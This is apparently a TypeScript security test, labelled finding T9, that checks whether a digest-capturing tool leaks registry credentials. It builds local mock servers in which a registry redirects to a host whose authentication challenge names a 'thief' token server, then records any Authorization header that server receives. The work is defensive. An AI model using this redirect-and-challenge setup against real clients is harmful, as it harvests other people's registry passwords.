import { createServer, type IncomingMessage, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Finding, Variant } from '../findings/finding.js';
import { ended } from '../findings/stage.js';

async function serve(answer: RequestListener): Promise<{ readonly host: string; readonly server: Server }> {
  const server = createServer(answer);
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const address = server.address();
  const { port }: Pick<AddressInfo, 'port'> = typeof address === 'object' && address !== null ? address : { port: 0 };
  return { host: `127.0.0.1:${port}`, server };
}

/** A registry that sends on to a host, which sends to a third one for tokens. @param challenge of the host between */
const variant = (name: string, status: number, challenge: (thief: string) => string): Variant => ({
  name,
  async play(stage) {
    const shown: (string | undefined)[] = [];
    const keep = (request: IncomingMessage) => shown.push(request.headers.authorization);
    const thief = await serve((request, response) => {
      keep(request);
      response.writeHead(200, { 'content-type': 'application/json' }).end('{"token":"x"}');
    });
    const between = await serve((request, response) => {
      keep(request);
      response.writeHead(401, { 'www-authenticate': challenge(thief.host) }).end();
    });
    const registry = await serve(({ url }, response) => {
      response.writeHead(status, { location: `http://${between.host}${url}` }).end();
    });
    try {
      // What was to be captured was only captured in a checkout once.
      await stage.checkout({ 'a.txt': 'a\n' });
      const result = await stage.run('capture-digests', {
        ...{ services: 'api', image: `${registry.host}/acme/{service}`, tag: '1.0.0' },
        ...{ 'registry-username': 'robin', 'registry-password': 'sesame-open-sesame' },
      });
      const harm = shown.some((value) => value !== undefined);
      return { harm, seen: `${ended(result)}; ${harm ? 'the password went elsewhere' : 'nobody else saw it'}` };
    } finally {
      for (const { server } of [thief, between, registry]) server.close();
    }
  },
  now: /; nobody else saw it$/,
});

export const finding: Finding = {
  id: 'T9',
  about: 'a registry redirects, and the password goes to whoever the next host names',
  variants: [
    variant('307 and a token server of a stranger', 307, (thief) => `Bearer realm="http://${thief}/token",service="r"`),
    variant('302 and a token server of a stranger', 302, (thief) => `Bearer realm="http://${thief}/token"`),
    variant('308 and two ways to log in', 308, (thief) => `Basic realm="r", Bearer realm="http://${thief}/token"`),
  ],
};
